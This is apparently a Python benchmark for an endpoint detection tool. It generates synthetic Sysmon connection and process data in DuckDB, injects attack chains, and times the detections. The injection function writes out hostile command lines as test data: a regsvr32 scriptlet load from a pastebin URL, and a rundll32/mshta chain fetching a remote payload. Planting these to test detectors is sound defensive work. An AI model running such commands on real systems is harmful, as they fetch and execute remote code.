"""How long the P2 baseline and detections take over a month of endpoint network telemetry.

    python bench/sysmon/p2_bench.py [--rows 5000000] [--hosts 1000] [--db path.duckdb]

Generates `--rows` Sysmon network connections (event 3) of ordinary programs on `--hosts`
workstations over 30 days, with their process starts (event 1; services started before
logging have none), straight into a DuckDB store with SQL. A handful of attack chains is added
on the last day. Then it times the proc_net baseline and each P2 detection, and prints the
figures, what fired, and the peak memory of the process (DuckDB included).
"""

from __future__ import annotations

import argparse
import datetime as dt
import multiprocessing as mp
import resource
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import pyarrow as pa

from lurewatch.baselines.proc_net import build_proc_net_baseline
from lurewatch.config import Settings
from lurewatch.detections.base import QueryDetection
from lurewatch.detections.context import DetectionContext
from lurewatch.detections.examples_proc import launched, merge_into, proc_conn, proc_start
from lurewatch.detections.registry import all_detections
from lurewatch.store import Store

START = dt.datetime(2026, 2, 1)
DAYS = 30

# (executable, original file name, command line, port, transport, destination, weight, start
# logged). Destination "internal" or "internet"; weight is the share of connections.
PROGRAMS: list[tuple[str, str, str, int, str, str, int, bool]] = [
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe", "svchost.exe -k netsvcs -p", 443, "tcp", "internet", 12, False),
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe", "svchost.exe -k NetworkService -p", 53, "udp", "internal", 14, False),
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe", "svchost.exe -k LocalService -p", 5355, "udp", "internal", 4, False),
    ("C:\\Windows\\System32\\lsass.exe", "lsass.exe", "C:\\Windows\\system32\\lsass.exe", 88, "tcp", "internal", 4, False),
    ("C:\\Windows\\System32\\lsass.exe", "lsass.exe", "C:\\Windows\\system32\\lsass.exe", 389, "tcp", "internal", 3, False),
    ("System", "", "", 445, "tcp", "internal", 5, False),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", '"chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', 443, "tcp", "internet", 16, True),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe", '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', 443, "tcp", "internet", 8, True),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "outlook.exe", '"OUTLOOK.EXE"', 443, "tcp", "internet", 7, True),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", '"WINWORD.EXE" /n "C:\\Users\\u\\Documents\\report.docx"', 443, "tcp", "internet", 2, True),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "Excel.exe", '"EXCEL.EXE"', 443, "tcp", "internet", 2, True),
    ("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "Teams.exe", '"Teams.exe" --system-initiated', 443, "tcp", "internet", 6, True),
    ("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "OneDrive.exe", '"OneDrive.exe" /background', 443, "tcp", "internet", 4, True),
    ("C:\\Program Files\\Windows Defender\\MsMpEng.exe", "MsMpEng.exe", '"MsMpEng.exe"', 443, "tcp", "internet", 3, False),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1", 5985, "tcp", "internal", 2, True),
    ("C:\\Windows\\System32\\mstsc.exe", "mstsc.exe", '"mstsc.exe" /v:srv01', 3389, "tcp", "internal", 1, True),
    ("C:\\Program Files\\Zoom\\bin\\Zoom.exe", "Zoom.exe", '"Zoom.exe"', 8801, "udp", "internet", 2, True),
    ("C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE", "rundll32.exe shell32.dll,Control_RunDLL", 443, "tcp", "internal", 1, True),
    ("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe", "msiexec /i \\\\fs01\\deploy\\client.msi /qn", 445, "tcp", "internal", 1, True),
    ("C:\\Program Files\\Contoso\\Sync\\contososync.exe", "contososync.exe", '"contososync.exe" --service', 8443, "tcp", "internal", 3, False),
]  # fmt: skip


def _programs_table() -> tuple[pa.Table, pa.Table]:
    cols: dict[str, list[Any]] = {
        k: [] for k in ("prog", "exe", "ofn", "cmd", "port", "tr", "dest", "start")
    }
    slots: list[int] = []
    for i, (exe, ofn, cmd, port, tr, dest, weight, start) in enumerate(PROGRAMS):
        for key, value in zip(cols, (i, exe, ofn, cmd, port, tr, dest, start), strict=True):
            cols[key].append(value)
        slots.extend([i] * weight)
    table = pa.table(cols)
    return table, pa.table({"slot": list(range(len(slots))), "prog": slots})


def generate(store: Store, rows: int, hosts: int) -> tuple[int, int]:
    """Fill proc_net and process with SQL; returns (connections, process starts)."""
    programs, slots = _programs_table()
    con = store.con
    con.execute("SET enable_progress_bar = false")
    con.register("_bench_programs", programs)
    con.register("_bench_slots", slots)
    n_slots = slots.num_rows
    # One connection per row number; every choice is a hash of it. A process is one program on
    # one host for one week (its ProcessGuid is derived from those).
    con.execute(
        f"""
        CREATE TEMP TABLE _bench_conn AS
        WITH r AS (
            SELECT range AS i,
                   hash(range) % {hosts} AS h,
                   hash(range * 31 + 7) % {n_slots} AS s,
                   hash(range * 17 + 3) % {DAYS * 86400} AS sec
            FROM range({rows})
        )
        SELECT r.i, r.h, p.*, sec, sec // (7 * 86400) AS week,
               TIMESTAMP '{START:%Y-%m-%d}' + to_seconds(sec) AS ts
        FROM r JOIN _bench_slots sl ON sl.slot = r.s JOIN _bench_programs p ON p.prog = sl.prog
        """
    )
    guid = (
        "substr(md5(h::VARCHAR || '/' || prog::VARCHAR || '/' || week::VARCHAR), 1, 8) || '-' || "
        "substr(md5(h::VARCHAR || '/' || prog::VARCHAR || '/' || week::VARCHAR), 9, 4) || "
        "'-0000-0000-' || substr(md5(h::VARCHAR || '/' || prog::VARCHAR || '/' || week::VARCHAR), 13, 12)"
    )
    exe = "replace(exe, '{user}', 'user' || h::VARCHAR)"
    con.execute(
        f"""
        INSERT INTO proc_net ("event.id", "@timestamp", "log.file.path", "log.offset",
            "observer.product", "host.name", "process.entity_id", "process.pid",
            "process.executable", "process.name", "user.name", "network.transport",
            "network.initiated", "source.ip", "source.port", "destination.ip",
            "destination.port", "destination.domain")
        SELECT md5('net' || i::VARCHAR), ts, 'bench-sysmon.evtx', i, 'sysmon',
            'ws' || lpad(h::VARCHAR, 5, '0') || '.corp.example', {guid}, 1000 + prog,
            {exe}, lower(regexp_replace({exe}, '^.*[\\\\/]', '')),
            'CORP\\user' || h::VARCHAR, tr, true,
            '10.1.' || (h // 250)::VARCHAR || '.' || (h % 250)::VARCHAR, 49152 + (i % 16000),
            CASE WHEN dest = 'internal' THEN '10.0.' || (i % 7)::VARCHAR || '.' || (prog + 10)::VARCHAR
                 ELSE (20 + prog)::VARCHAR || '.' || (i % 200)::VARCHAR || '.' || (i % 13)::VARCHAR || '.1' END,
            port, NULL
        FROM _bench_conn
        """
    )
    con.execute(
        f"""
        INSERT INTO process ("event.id", "@timestamp", "log.file.path", "log.offset",
            "observer.product", "host.name", "process.entity_id", "process.pid",
            "process.executable", "process.name", "process.pe.original_file_name",
            "process.command_line", "user.name", "process.parent.executable",
            "process.parent.command_line")
        SELECT md5('proc' || {guid}), min(ts) - INTERVAL 5 SECOND, 'bench-sysmon.evtx', 0, 'sysmon',
            'ws' || lpad(h::VARCHAR, 5, '0') || '.corp.example', {guid}, 1000 + prog,
            {exe}, lower(regexp_replace({exe}, '^.*[\\\\/]', '')), ofn, cmd,
            'CORP\\user' || h::VARCHAR, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'
        FROM _bench_conn WHERE start
        GROUP BY h, prog, week, exe, ofn, cmd
        """
    )
    con.execute("DROP TABLE _bench_conn")
    con.unregister("_bench_programs")
    con.unregister("_bench_slots")
    return store.count("proc_net"), store.count("process")


def inject_attacks(store: Store) -> int:
    """A few attack chains on the last day, written as a real reader would write them."""
    at = START + dt.timedelta(days=DAYS - 1, hours=10)
    host = "ws00042.corp.example"
    events: dict[str, list[dict[str, Any]]] = {}
    regsvr = "regsvr32.exe /u /s /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll"
    merge_into(
        events,
        launched(
            "C:\\Windows\\System32\\regsvr32.exe", regsvr, "104.20.208.21", 80, host=host, at=at
        ),
        launched(
            "C:\\Users\\user42\\Downloads\\invoice_viewer.exe",
            "invoice_viewer.exe",
            "185.220.101.4",
            443,
            host=host,
            at=at + dt.timedelta(minutes=5),
        ),
        launched(
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            '"WINWORD.EXE" /n "C:\\Users\\user42\\Downloads\\Invoice_4471.docx"',
            "198.51.100.23",
            445,
            host=host,
            at=at + dt.timedelta(minutes=9),
            original_file_name="WinWord.exe",
        ),
    )
    rundll_cmd = 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();h=new%20ActiveXObject("WScript.Shell").run("mshta https://hotelesms.com/talsk.txt",0,true);'
    rundll = proc_start("C:\\Windows\\System32\\rundll32.exe", rundll_cmd, host=host, at=at)
    mshta = proc_start(
        "C:\\Windows\\System32\\mshta.exe",
        '"C:\\Windows\\System32\\mshta.exe" https://hotelesms.com/talsk.txt',
        host=host,
        at=at + dt.timedelta(seconds=2),
        parent=rundll["process.executable"],
        parent_command_line=rundll_cmd,
    )
    merge_into(
        events, {"process": [rundll, mshta], "proc_net": [proc_conn(mshta, "108.179.232.58", 443)]}
    )
    for table, rows in events.items():
        store.insert(table, rows)
    return len(events["proc_net"])


def _prepare(path: str, rows: int, hosts: int) -> None:
    """Generate the data into `path` (run in a child process, so that the memory figure below
    is the analytics' own)."""
    with Store(path) as store:
        t0 = time.perf_counter()
        generate(store, rows, hosts)
        inject_attacks(store)
        conns, starts = store.count("proc_net"), store.count("process")
        print(
            f"generated {conns:,} connections and {starts:,} process starts on {hosts:,} hosts "
            f"in {time.perf_counter() - t0:.1f} s (not counted below)",
            flush=True,
        )


def _peak_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def _cpu_s() -> float:
    usage = resource.getrusage(resource.RUSAGE_SELF)
    return usage.ru_utime + usage.ru_stime


def measure(path: str) -> None:
    with Store(path) as store:
        conns, starts = store.count("proc_net"), store.count("process")
        print(f"{conns:,} connections, {starts:,} process starts in {path}")
        settings = Settings()
        ctx = DetectionContext(settings=settings, store=store)
        cpu0, t1 = _cpu_s(), time.perf_counter()
        rows = build_proc_net_baseline(store, settings)
        base = time.perf_counter() - t1
        print(f"  {'baseline_proc_net':<36} {base:6.1f} s  {rows:,} rows")
        total = base
        for det in all_detections():
            if not det.id.startswith("proc_") or not isinstance(det, QueryDetection):
                continue
            t = time.perf_counter()
            found = det.run(ctx)
            took = time.perf_counter() - t
            total += took
            what = ", ".join(sorted({f.entities.get("process_name") or "?" for f in found}))
            print(f"  {det.id:<36} {took:6.1f} s  {len(found)} alert(s): {what}")
        cpu = _cpu_s() - cpu0
        print(
            f"baseline + P2 detections: {total:.1f} s wall, {cpu:.1f} s CPU, over {conns:,} "
            f"connections ({conns / total:,.0f}/s); peak memory {_peak_mb():,.0f} MB"
        )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rows", type=int, default=5_000_000)
    parser.add_argument("--hosts", type=int, default=1000)
    parser.add_argument(
        "--db", default=None, help="database file, reused when it holds data (default: temporary)"
    )
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory() as tmp:
        path = args.db or str(Path(tmp) / "p2-bench.duckdb")
        if not Path(path).exists():
            child = mp.get_context("spawn").Process(
                target=_prepare, args=(path, args.rows, args.hosts)
            )
            child.start()
            child.join()
            if child.exitcode != 0:
                return 1
        measure(path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
